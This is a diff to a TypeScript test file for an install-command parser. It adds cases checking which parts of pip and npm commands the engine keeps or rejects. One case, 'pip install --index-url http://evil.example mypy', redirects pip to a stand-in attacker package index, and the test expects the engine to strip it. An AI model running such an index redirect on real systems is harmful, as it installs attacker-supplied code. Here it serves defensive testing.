@@ -1,7 +1,7 @@
 /** Install commands: which are accepted, what they name, and how the engine makes them. */
 import assert from 'node:assert/strict';
 import { describe, it } from 'mocha';
-import { installCommand, installProblem, installsOf, plainCommand } from '../../../src/engine/parse/install-command.ts';
+import { installCommand, installProblem, installsOf, plainCommand, takenOfInstall } from '../../../src/engine/parse/install-command.ts';
 import type { Install } from '../../../src/engine/work/install.ts';
 
 const accepted: { command: string; installs: Install[] }[] = [
@@ -88,6 +88,27 @@ describe('an install command', () => {
     const tools = installCommand({ folder: '', manager: 'pip', flags: ['mypy', 'flake8==4.0.1'] });
     assert.ok(tools.endsWith(`"$root/.venv"; } && ${after}`), tools);
   });
+
+  const taken: [string, install: string, leftOut: RegExp[]][] = [
+    ['', '', []],
+    ['npm  ci', 'npm ci', []],
+    [`pip install mypy 'coverage[toml]'`, 'pip install mypy coverage[toml]', []],
+    [
+      'pip install -e . && pip install mypy Unidecode',
+      'pip install -e . && pip install mypy',
+      [/^Install: Unidecode: what the work needs stands/],
+    ],
+    ['pip install --index-url http://evil.example mypy', 'pip install mypy', [/^Install: --index-url http:\/\/evil\.example: /]],
+    ['cd web && npm ci', '', [/^Install: "cd web" is not a plain install command/]],
+    ['pip install requests', '', [/^Install: "pip install requests" is not a plain/]],
+  ];
+  for (const [command, install, leftOut] of taken)
+    it(`is taken of ${JSON.stringify(command)}: ${JSON.stringify(install)}`, () => {
+      const found = takenOfInstall(command);
+      assert.equal(found.install, install);
+      assert.equal(found.leftOut.length, leftOut.length);
+      for (const [n, pattern] of leftOut.entries()) assert.match(found.leftOut[n] ?? '', pattern);
+    });
 
   it('reads for a person as they would type it', () => {
     assert.equal(plainCommand({ folder: 'web', manager: 'uv', flags: ['--all-extras'] }), 'cd web && uv sync --all-extras');
